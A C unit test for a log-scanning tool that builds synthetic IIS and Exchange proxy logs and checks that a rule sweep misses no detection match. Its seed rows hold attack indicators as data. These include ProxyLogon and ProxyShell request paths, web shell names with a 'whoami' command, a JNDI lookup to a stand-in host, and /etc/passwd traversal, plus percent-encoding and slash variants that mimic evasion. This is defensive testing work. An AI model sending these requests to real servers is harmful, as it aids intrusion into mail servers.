/* The sweep may leave out no line that a rule matches. Rows are spelled in the odd ways that
 * servers and attackers spell them; every rule is then asked about every row directly, and the
 * answers must be those of the sweep. */
#include "unit.h"

#include "os/io.h"
#include "scan/ruleset.h"
#include "scan/sweep.h"

#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

enum { ROWS = 800, MANY_ROWS = 4000, RULES = 512, BYTES = 64 * 1024 * 1024 };

static const char header[] =
    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
    "#Date: 2021-03-01 00:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query "
    "s-port "
    "cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status "
    "time-taken\r\n";

/* Shapes of requests as logs hold them: method, stem, query, agent, referer, status. */
static const char *const seeds[][6] = {
    {"POST", "/ecp/y.js", "X-BEResource-&CorrelationID=<empty>;", "python-requests/2.25.1", "-",
     "241"},
    {"POST", "/ecp/q1.js", "X-AnonResource-Backend=a&cafeReqId=0-1;&encoding=;", "curl/7", "-",
     "200"},
    {"GET", "/owa/auth/x.js", "-", "Mozilla/5.0", "-", "500"},
    {"POST", "/owa/auth/Current/themes/resources/logon.css", "-", "antSword/v2.1", "-", "200"},
    {"POST", "/owa/auth/q7Rt.aspx", "&CorrelationID=<empty>;", "Mozilla/5.0", "-", "200"},
    {"GET", "/aspnet_client/supp0rt.aspx", "-", "Mozilla/5.0", "-", "200"},
    {"GET", "/owa/auth/help.aspx", "-", "Mozilla/5.0", "-", "302"},
    {"POST", "/ecp/auth/TimeoutLogout2.asmx", "a=b", "Mozilla/5.0", "-", "200"},
    {"POST", "/ecp/DDI/DDIService.svc/SetObject",
     "schema=ResetOABVirtualDirectory&msExchEcpCanary=x", "Mozilla/5.0", "-", "200"},
    {"POST", "/ecp/proxyLogon.ecp", "-", "Mozilla/5.0", "-", "241"},
    {"GET", "/autodiscover/autodiscover.json",
     "@a.example/powershell/?&Email=autodiscover/autodiscover.json?@a.example", "curl/7", "-",
     "302"},
    {"POST", "/autodiscover/autodiscover.json",
     "a=b@a.example/mapi/nspi?&Email=autodiscover/autodiscover.json?@a.example", "curl/7", "-",
     "200"},
    {"POST", "/autodiscover/autodiscover.json", "@a/ews/exchange.asmx?X-Rps-CAT=VgEA", "x", "-",
     "200"},
    {"GET", "/autodiscover/autodiscover.json", "Email=u@a.example&Protocol=EWS", "x", "-", "200"},
    {"POST", "/owa/mastermailbox@a.example/powershell", "-", "curl/7", "-", "200"},
    {"POST", "/ecp/a@a.example/RulesEditor/InboxRules.svc/NewObject", "SecurityToken=x", "curl/7",
     "-", "500"},
    {"GET", "/ecp/default.aspx", "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=x", "curl/7", "-",
     "500"},
    {"POST", "/_layouts/15/ToolPane.aspx", "DisplayMode=Edit&a=/ToolPane.aspx", "Mozilla/5.0",
     "/_layouts/SignOut.aspx", "302"},
    {"GET", "/_layouts/16/spinstall0.aspx", "-", "Mozilla/5.0", "-", "200"},
    {"GET", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", "-",
     "zgrab/0.x", "-", "200"},
    {"GET", "/", "x=${jndi:ldap://a.example/x}", "${jndi:dns://a.example}", "-", "404"},
    {"GET", "/index.php", "page=../../../../etc/passwd", "sqlmap/1.4", "-", "404"},
    {"GET", "/cmd.jsp", "c=whoami", "Nikto/2.1", "-", "200"},
    {"GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail%2fowa%2f", "Mozilla/5.0", "-", "200"},
};

static const char proxy_header[] =
    "DateTime,RequestId,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method,"
    "TargetServer,RoutingHint,BackEndCookie,UrlQuery\r\n"
    "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n"
    "#Fields: DateTime,RequestId,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method,"
    "TargetServer,RoutingHint,BackEndCookie,UrlQuery\r\n";

/* Method, stem, anchor, cookie, query, status. */
static const char *const proxy_seeds[][6] = {
    {"POST", "/ecp/y.js", "ServerInfo~a]@ex01:444/autodiscover/autodiscover.xml?#", "", "", "200"},
    {"POST", "/ecp/y.js", "ServerInfo~a]@ex01:444/mapi/emsmdb/?#", "", "", "200"},
    {"POST", "/ecp/y.js", "ServerInfo~a]@ex01:444/ecp/proxyLogon.ecp?#", "", "", "241"},
    {"POST", "/ecp/y.js",
     "ServerInfo~a]@ex01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&x#",
     "", "", "200"},
    {"POST", "/ecp/y.js", "ServerInfo~a]@ex01:444/ecp/DDI/DDIService.svc/GetObject?schema=x#", "",
     "", "200"},
    {"POST", "/ecp/y.js", "ServerInfo~a]@ex01:444/EWS/Exchange.asmx?#", "", "", "200"},
    {"GET", "/owa/auth/x.js", "", "Server~ex01/EWS/Exchange.asmx?a=~1942062522", "", "200"},
    {"GET", "/owa/auth/x.js", "", "Server~localhost/ecp/default.flt?a=~3", "", "500"},
    {"POST", "/autodiscover/autodiscover.json", "", "", "?a@a.example/mapi/nspi?&Email=a", "200"},
    {"POST", "/owa/m@a.example/powershell", "", "", "", "200"},
    {"POST", "/owa/auth/q7Rt.aspx", "", "", "", "200"},
    {"GET", "/owa/", "someone@a.example", "", "", "200"},
};

static uint64_t random_state = 88172645463325252u;

static unsigned chance(unsigned per_cent)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return random_state % 100 < per_cent;
}

/* What servers take for one slash. */
static const char *const slashes[] = {"//",     "///",       "/./",          "/%2f",    "%2F/",
                                      "%2f%2f", "/a/../",    "%2fa%2F..%2f", "/.%2f",   "%2f./",
                                      "/%2e/",  "/(S(ab))/", "/%28a(x))/",   "/b/.././"};

/* Percent escapes, once or twice, of any character; letters of another case; odd slashes. */
static void respell(struct buf *b, const char *text, unsigned per_cent)
{
    for (const char *p = text; *p; p++) {
        unsigned char c = (unsigned char)*p;
        if (!strcmp(text, "-"))
            buf_putc(b, *p);
        else if (c == '/' && chance(per_cent ? per_cent / 4 + 10 : 0))
            buf_puts(b, slashes[random_state % ARRAY_LEN(slashes)]);
        else if (chance(per_cent / 4))
            buf_printf(b, chance(50) ? "%%25%02x" : "%%25%02X", c);
        else if (chance(per_cent))
            buf_printf(b, chance(50) ? "%%%02x" : "%%%02X", c);
        else
            buf_putc(b, (char)(ascii_alpha(c) && chance(per_cent) ? c ^ 32 : c));
    }
}

/* Each row has a client of its own, so that nothing is folded. `shape` tells what is asked for and
 * how it is spelled. */
static void make_row(struct buf *b, size_t i, size_t shape)
{
    const char *const *seed = seeds[shape % ARRAY_LEN(seeds)];
    unsigned per_cent = shape < ARRAY_LEN(seeds) ? 0
                        : shape % 3 == 0         ? 4
                        : shape % 3 == 1         ? 15
                                                 : 60;
    buf_printf(b, "2021-03-01 %02zu:%02zu:%02zu 192.0.2.10 %s ", 1 + i / 3600, i / 60 % 60, i % 60,
               chance(80) ? seed[0] : "PUT");
    respell(b, seed[1], chance(50) ? per_cent : 0);
    buf_putc(b, ' ');
    random_state ^= i * 0x9e3779b97f4a7c15u;
    respell(b, seed[2], per_cent);
    buf_printf(b, " 443 - 198.51.%zu.%zu %s %s %s 0 0 15\r\n", 100 + i / 250, i % 250 + 1, seed[3],
               seed[4], seed[5]);
}

static void make_proxy_row(struct buf *b, size_t i, size_t shape)
{
    const char *const *seed = proxy_seeds[shape % ARRAY_LEN(proxy_seeds)];
    unsigned per_cent = shape < ARRAY_LEN(proxy_seeds) ? 0
                        : shape % 3 == 0               ? 4
                        : shape % 3 == 1               ? 15
                                                       : 60;
    buf_printf(b, "2021-03-01T%02zu:%02zu:%02zu.000Z,%zu,", 1 + i / 3600, i / 60 % 60, i % 60, i);
    respell(b, seed[1], chance(50) ? per_cent : 0);
    buf_putc(b, ',');
    respell(b, seed[2], per_cent);
    buf_printf(b, ",curl/7,198.51.%zu.%zu,%s,%s,ex01,,", 100 + i / 250, i % 250 + 1, seed[5],
               chance(80) ? seed[0] : "PUT");
    random_state ^= i * 0x9e3779b97f4a7c15u;
    respell(b, seed[3], per_cent);
    buf_putc(b, ',');
    respell(b, seed[4], per_cent);
    buf_puts(b, "\r\n");
}

/* A log whose rows are made up: its four header lines, then its rows. Where they repeat, nine of
 * ten are one of a few requests, spelled alike up to the query; before them come as many ordinary
 * rows as it takes until the sweep trusts what it has learnt. */
struct sample {
    const char *kind, *path, *header;
    void (*make_row)(struct buf *b, size_t i, size_t shape);
    size_t rows;
    bool repeats;
    size_t before, ordinary; /* rows; their shape */
};
static const struct sample samples[] = {
    {"iis", "u_ex210301.log", header, make_row, ROWS, false, 0, 0},
    {"httpproxy-ecp", "HttpProxy/Ecp/HttpProxy_2021030101-1.LOG", proxy_header, make_proxy_row,
     ROWS, false, 0, 0},
    {"iis", "u_ex210301.log", header, make_row, MANY_ROWS, true, 130000, 2 * ARRAY_LEN(seeds) - 1},
    {"httpproxy-ecp", "HttpProxy/Ecp/HttpProxy_2021030101-1.LOG", proxy_header, make_proxy_row,
     MANY_ROWS, true, 130000, 2 * ARRAY_LEN(proxy_seeds) - 1},
};

static void make_rows(const struct sample *sample, struct buf *b)
{
    uint64_t base = random_state | 1;
    for (size_t i = 0; i < sample->before; i++) {
        random_state = base * (i % 20 + 1) | 1;
        sample->make_row(b, i % MANY_ROWS, sample->ordinary);
    }
    random_state = base;
    for (size_t i = 0; i < sample->rows; i++) {
        size_t shape = i;
        if (sample->repeats && !chance(10)) {
            shape = random_state / 128 % 60;
            uint64_t next = random_state * 0x9e3779b97f4a7c15u | 1;
            random_state = base * (shape + 1) | 1;
            sample->make_row(b, i, shape);
            random_state ^= next;
        } else {
            sample->make_row(b, i, shape);
        }
    }
}

struct found {
    const struct ruleset *set;
    const struct sample *sample;
    bool direct[MANY_ROWS][RULES], swept[MANY_ROWS][RULES];
    size_t matches;
};

static struct str view_value(void *ctx, uint16_t view)
{
    return view == SIGMA_VIEW_UNQUOTED ? fields_unquoted(ctx) : fields_view(ctx, view);
}

/* Every rule on every row, no sweep. */
static void ask_directly(struct found *f, struct program *p, struct str text)
{
    static struct fields fields;
    static struct record record;
    struct arena arena;
    struct log_state state = {.date_us = TIME_NONE};
    struct str path = str_of(f->sample->path);
    const struct codec *codec = codecs[codec_identify(text, path)];
    codec->begin(&state, text, path);
    arena_init(&arena, BYTES);
    memset(&fields, 0x55, sizeof fields); /* on a stack it holds anything */
    fields_init(&fields, p->kind, &arena);
    size_t row = 0, before = f->sample->before;
    for (struct str line; str_cut(&text, '\n', &line);) {
        arena_reset(&arena);
        if (line.n && line.p[line.n - 1] == '\r')
            line.n--;
        if (codec->line(&state, line, &arena, &record) != LINE_RECORD)
            continue;
        if (before) {
            before--;
            continue;
        }
        record.raw = line;
        fields_next(&fields, &state, &record);
        struct sigma_subject subject = {&fields, line, record.time_us, view_value};
        for (size_t i = 0; i < p->n_bound; i++)
            if (sigma_eval(p->bound[i].plan, &subject, NULL, NULL)) {
                f->direct[row][p->bound[i].rule] = true;
                f->matches++;
            }
        row++;
    }
    assert_int_equal(row, f->sample->rows);
    arena_done(&arena);
}

static enum err take(void *ctx, enum message type, struct str body)
{
    struct found *f = ctx;
    struct rd r = rd_of(body);
    while (type == MESSAGE_HITS && rd_left(&r)) {
        struct hit h;
        uint64_t key;
        assert_int_equal(hit_read(&r, &key, &h), OK);
        assert_false(h.overflow);
        uint64_t first = 5 + f->sample->before; /* four header lines come before the rows */
        if (h.rule < f->set->n_sigma && h.line >= first)
            f->swept[h.line - first][h.rule] = true;
    }
    return OK;
}

static void sweep_rows(struct found *f, struct str text)
{
    struct sweep *s;
    struct sweep_sink sink = {.ctx = f, .send = take};
    struct unit unit = {.to = UINT64_MAX, .path = str_of(f->sample->path), .host = STR("EX01")};
    int fd = memfd_create("log", MFD_CLOEXEC);
    assert_int_equal(io_write(fd, text.p, text.n), OK);
    assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
    assert_int_equal(sweep_new(f->set, &sink, &s), OK);
    assert_int_equal(sweep_unit(s, &unit, &(struct sweep_input){.fd = fd}), OK);
    (void)sweep_free(s);
    io_close(fd);
}

static void compare(const struct found *f, struct str text)
{
    size_t row = 0, before = f->sample->before;
    for (struct str line; str_cut(&text, '\n', &line);) {
        if (!line.n || line.p[0] == '#' || str_starts(line, STR("DateTime")))
            continue;
        if (before) {
            before--;
            continue;
        }
        for (size_t i = 0; i < f->set->n_sigma; i++)
            if (f->direct[row][i] != f->swept[row][i])
                fail_msg("rule '%s': direct %d, swept %d, on\n%.*s", f->set->rule[i].title.p,
                         f->direct[row][i], f->swept[row][i], STR_FMT(line));
        row++;
    }
}

static void load_rules(struct arena *arena, struct ruleset *set)
{
    struct error error = {0};
    struct scan_options options = {.since_us = TIME_NONE, .until_us = TIME_NONE};
    struct str rules = str_of(getenv("TOCSIN_SIGMA_DIR"));
    const char *seed = getenv("TOCSIN_SEED");
    random_state += seed ? strtoull(seed, NULL, 10) * 2654435761u : 0;
    if (rules.n)
        options.rules = (struct str_list){&rules, 1};
    arena_init(arena, (size_t)256 * 1024 * 1024);
    assert_int_equal(ruleset_load(arena, &options, set, &error), OK);
    assert_true(set->n_sigma > 50);
    if (set->n_sigma > RULES) /* rules of other logs stand behind those of the dossiers */
        set->n_sigma = RULES;
    for (size_t i = 0; i < set->n_sigma; i++)
        set->rule[i].meta.fold.n = 0;
}

static void no_match_is_left_out(const struct sample *sample)
{
    struct arena arena;
    struct ruleset set;
    struct program *program;
    struct error error = {0};
    struct found *f = calloc(1, sizeof *f);
    struct buf text;
    assert_non_null(f);
    load_rules(&arena, &set);
    buf_init(&text, BYTES);
    f->set = &set;
    f->sample = sample;
    buf_puts(&text, sample->header);
    make_rows(sample, &text);
    assert_int_equal(text.rc, OK);
    struct str path = str_of(sample->path);
    const struct codec *codec = codecs[codec_identify(buf_view(&text), path)];
    struct kind_def *kind = logsources_kind(&set.logsources, str_of(sample->kind));
    assert_int_equal(program_new(&set, kind, codec, &program, &error), OK);
    ask_directly(f, program, buf_view(&text));
    sweep_rows(f, buf_view(&text));
    compare(f, buf_view(&text));
    assert_true(f->matches > sample->rows / 2);
    print_message("# %zu matches of %zu rules on %d rows of %s\n", f->matches, program->n_bound,
                  (int)sample->rows, sample->kind);
    (void)program_free(program);
    ruleset_done(&set);
    buf_done(&text);
    arena_done(&arena);
    free(f);
}

static void test_iis(void **state)
{
    (void)state;
    no_match_is_left_out(&samples[0]);
}

static void test_httpproxy(void **state)
{
    (void)state;
    no_match_is_left_out(&samples[1]);
}

static void test_iis_repeating(void **state)
{
    (void)state;
    no_match_is_left_out(&samples[2]);
}

static void test_httpproxy_repeating(void **state)
{
    (void)state;
    no_match_is_left_out(&samples[3]);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_iis), cmocka_unit_test(test_httpproxy),
                                       cmocka_unit_test(test_iis_repeating),
                                       cmocka_unit_test(test_httpproxy_repeating)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
